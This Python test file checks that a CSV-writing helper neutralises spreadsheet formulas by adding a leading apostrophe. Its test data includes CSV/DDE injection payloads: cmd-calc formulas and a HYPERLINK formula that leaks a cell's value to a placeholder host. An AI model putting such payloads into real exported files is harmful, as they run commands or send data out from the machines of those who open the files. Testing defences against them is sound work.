"""Cells written to a CSV that someone will open in a spreadsheet: a cell that a spreadsheet
would read as a formula gets a leading apostrophe; everything else is written as it is."""

import csv
import io

import pytest

from palermo.core.spreadsheet import SafeDictWriter, safe_cell, safe_writer

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_a_spreadsheet_reads_as_a_formula_gets_a_leading_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-5", "+44", "-3.25", "12", "0"])
def test_a_plain_number_stays_a_number(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", ["", "Ilsabet", "a=b", " =1+1", "NRM-2024-0A1B2C3D", "'=already", "5-3"])
def test_other_text_is_written_as_it_is(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", ["-", "+44 20 7946 0000", "-5 days", "--5"])
def test_text_that_only_looks_numeric_is_still_neutralised(value):
    assert safe_cell(value) == "'" + value


def test_values_that_are_not_text_are_left_alone():
    assert safe_cell(None) is None and safe_cell(-5) == -5 and safe_cell(2.5) == 2.5


def test_the_writers_neutralise_every_cell_and_the_csv_reads_back_to_the_neutralised_text():
    buf = io.StringIO()
    w = SafeDictWriter(buf, fieldnames=["a", "b"])
    w.writeheader()
    w.writerow({"a": "=1+1", "b": "ok"})
    w.writerows([{"a": "@x", "b": "-5"}])
    plain = safe_writer(buf)
    plain.writerow(["+x", "y"])
    plain.writerows([["\t1", "z"]])
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows == [["a", "b"], ["'=1+1", "ok"], ["'@x", "-5"], ["'+x", "y"], ["'\t1", "z"]]
